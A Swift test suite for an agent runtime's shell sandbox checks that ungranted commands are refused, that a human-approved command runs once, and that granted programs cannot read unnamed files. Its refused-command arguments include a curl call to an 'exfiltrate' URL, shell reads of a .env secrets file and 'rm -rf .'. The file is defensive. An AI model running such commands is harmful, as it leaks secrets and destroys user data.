import AgentRuntime
import LibOSModel
import StrictJSON
import Testing

@Suite(.serialized) struct ShellScenarioTests {
    @Test(
        "a program that was not granted is not run",
        arguments: [
            "[curl, 'https://example.invalid/exfiltrate']", "[bash, '-lc', 'cat .env']", "[rm, '-rf', '.']",
            "[env, bash, '-c', 'cat .env']",
        ])
    func refused(_ argv: String) async throws {
        try await AgentFixture.with { fixture in
            let id = try await fixture.spawn(["filesystem:workspace:* read"])
            try await fixture.play(
                """
                - {action: run_shell_command, argv: \(argv)}
                - {action: process_exit}
                """)
            #expect(try await fixture.outcomes(id).map(\.short) == ["run_shell_command refused", "process_exit done"])
            for (name, before) in AgentFixture.files { #expect(try fixture.text(name) == before) }
            #expect(try await !fixture.everythingRecorded().contains("env-secret"))
        }
    }

    @Test("a program that a person allowed runs, once, and sees what it was given") func allowed() async throws {
        try await AgentFixture.with { fixture in
            let id = try await fixture.spawn(["ask shell:cat execute", "filesystem:workspace:README.md read"])
            try await fixture.play(
                """
                - {action: run_shell_command, argv: [cat, README.md], read: [README.md]}
                - {action: process_exit}
                """, approves: true)
            let outcomes = try await fixture.outcomes(id)
            #expect(outcomes.map(\.short) == ["run_shell_command done", "process_exit done"])
            #expect(outcomes.first?.payload["stdout"] == .string("A small repository.\n"))
            let call = try #require(try await fixture.calls(id).first)
            #expect(call.policyHash != nil && call.report["schema"] == .string("glovebox.run/1"))
            #expect(try await fixture.audits("human.response").count == 1)
        }
    }

    @Test("a granted program under the granted names sees no other file") func confined() async throws {
        try await AgentFixture.with { fixture in
            let id = try await fixture.spawn(["shell:cat execute", "filesystem:workspace:README.md read"])
            #expect(try fixture.text(".env").contains("env-secret"))
            try await fixture.play(
                """
                - {action: run_shell_command, argv: [cat, README.md, .env, secrets/token.txt], read: [README.md]}
                - {action: process_exit}
                """)
            let outcome = try #require(try await fixture.outcomes(id).first)
            #expect(outcome.payload["stdout"] == .string("A small repository.\n"), "\(outcome.payload)")
            #expect(outcome.payload["returncode"] == .int(1))
            #expect(try await !fixture.everythingRecorded().contains("env-secret"))
        }
    }
}
